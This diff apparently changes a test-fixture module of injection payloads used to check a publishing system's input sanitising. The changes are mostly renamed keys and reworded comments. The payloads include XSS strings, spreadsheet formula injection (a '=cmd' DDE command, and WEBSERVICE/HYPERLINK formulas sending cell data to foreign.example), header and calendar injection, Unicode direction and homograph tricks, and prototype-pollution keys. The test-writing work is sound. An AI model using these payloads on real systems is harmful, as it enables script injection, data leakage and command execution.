@@ -1,6 +1,6 @@
-"""Texts, links and ids that somebody might put into a dossier to break what is published."""
+"""Payloads for injection attacks: texts, links, ids and keys of a malicious dossier."""
 
-# No longer than a title may be: they stand in every text of a record.
+# Single lines, short enough for a title. Tests put them into every text of a record.
 LINES = {
     "script": "<script class=hostile>alert(1)</script>",
     "image": "<img class=hostile src=http://foreign.example/x onerror=alert(1)>",
@@ -18,7 +18,7 @@ LINES = {
     "end of CDATA": "]]> <![CDATA[ ]]]]><![CDATA[>",
     "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &#x3c;i&#x3e; &amp; &nbsp &copy",
     "entities of entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt; &amp;amp;lt;b&amp;amp;gt;",
-    "entity that is none": "&hostile; &#0; &#xD800; &#x110000; &",
+    "invalid entity": "&hostile; &#0; &#xD800; &#x110000; &",
     "double quote": '"><b class=hostile>',
     "double quoted handler": '" autofocus onfocus="alert(1)" x="',
     "single quoted handler": "' autofocus onfocus='alert(1)' x='",
@@ -40,9 +40,9 @@ LINES = {
     "formula, full width at": "＠SUM(1)",
     "command": "=cmd|' /C calc'!A0",
     "formula in quotes": '"=1+1"',
-    "formula behind a comma": 'x",=1+1,"=1+1',
+    "formula after a comma": 'x",=1+1,"=1+1',
     "formula in a list": "x; =1+1; -1;+1;@x; ＝1",
-    "formula behind a quote": 'x;"=1+1;""=1+1; "=1+1"',
+    "formula after a quote": 'x;"=1+1;""=1+1; "=1+1"',
     "web query": '=WEBSERVICE("http://foreign.example/"&A1)',
     "hyperlink": '=HYPERLINK("http://foreign.example/"&A1,"x")',
     "calendar": "BEGIN:VEVENT END:VEVENT END:VCALENDAR ATTACH:http://foreign.example/",
@@ -58,8 +58,8 @@ LINES = {
     "zero width": "x\u200bx\u200cx\u200dx\u2060x\u00adx",
     "marks": "Z" + "\u0322\u0353\u031a" * 30 + "algo",
     "homograph": "раураl.example",
-    "turned around and back": "\u202eevil\u202c \u2067x\u2069 \u200fx\u200e",
-    "turned back too often": "x\u2069\u2069\u202c\u202c</bdi>",
+    "direction override, closed": "\u202eevil\u202c \u2067x\u2069 \u200fx\u200e",
+    "direction closed too often": "x\u2069\u2069\u202c\u202c</bdi>",
     "right to left": "<b>ראש</b> =1 </bdi>",
     "tags and variants": "x\U000e0041\U000e007f 👩\u200d👩\u200d👧\ufe0f\U000e0100",
     "private use": "\ue000\U0010ffff\ufffd\ufffc",
@@ -70,7 +70,7 @@ LINES = {
     "request": "x HTTP/1.1 Host: foreign.example Set-Cookie: x=1",
 }
 
-# With line breaks, which prose may have: they stand in all of it.
+# With line breaks, for texts that can have several lines.
 PROSE = {
     "calendar": "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:x",
     "continued line": "x\n ATTACH:http://foreign.example/\n x",
@@ -83,7 +83,7 @@ PROSE = {
     "line separator": "x\u2028END:VEVENT\u2029BEGIN:VEVENT\u2028=1+1",
 }
 
-# Refused in every text: no record has them.
+# Characters that are rejected in every text.
 REFUSED = {
     "NUL": "x\x00x",
     "tab": "x\tx",
@@ -98,7 +98,7 @@ REFUSED = {
     "control sequence": "x\x9b2Jx",
     "high surrogate": "x\ud800x",
     "low surrogate": "x\udfffx",
-    "wrong order of surrogates": "x\udc00\ud83dx",
+    "surrogates in the wrong order": "x\udc00\ud83dx",
     "override": "x\u202etxt.exe",
     "embedding": "x\u202bx",
     "isolate": "x\u2067x\u2068y\u2069",
@@ -112,7 +112,7 @@ LINKS = {
     "script in the query": "http://press.example/?u=javascript:alert(1)&v=data:text/html,<b>",
     "template": "https://press.example/{{7*7}}/${7*7}/`id`|^\\x",
     "encoded line break": "https://press.example/%0d%0aSet-Cookie:%20x=1%00",
-    "user behind the host": "https://press.example/@foreign.example",
+    "user after the host": "https://press.example/@foreign.example",
     "path upwards": "https://press.example/../../\\..\\;x//foreign.example",
     "another script": "https://bücher.example/ראש?ש=1#ש",
     "homograph": "https://раураl.example/",
@@ -152,7 +152,7 @@ REFUSED_LINKS = {
     "backslash as host": "https://\\foreign.example/",
     "user": "https://press.example@foreign.example/",
     "password": "https://user:secret@press.example/",
-    "user behind a backslash": "https://foreign.example\\@press.example/",
+    "user after a backslash": "https://foreign.example\\@press.example/",
     "no host": "https://",
     "only a port": "https://:80/",
     "port in words": "https://press.example:https/",
@@ -166,8 +166,8 @@ REFUSED_LINKS = {
     "quotes in the host": 'https://press".example/',
     "template in the host": "https://{{7*7}}/",
     "encoded host": "https://press%2eexample/",
-    "unseen in the host": "https://pr\u200bess.example/",
-    "turned host": "https://press\u202e.example/",
+    "invisible character in the host": "https://pr\u200bess.example/",
+    "direction override in the host": "https://press\u202e.example/",
 }
 
 REFUSED_IDS = {
@@ -197,5 +197,5 @@ REFUSED_IDS = {
     "wildcard": "*",
 }
 
-# What JavaScript and the widgets would make of their own.
+# Keys with a special meaning in JavaScript or in a widget.
 REFUSED_KEYS = ("__proto__", "constructor", "html", "headline", "content", "style", "className")
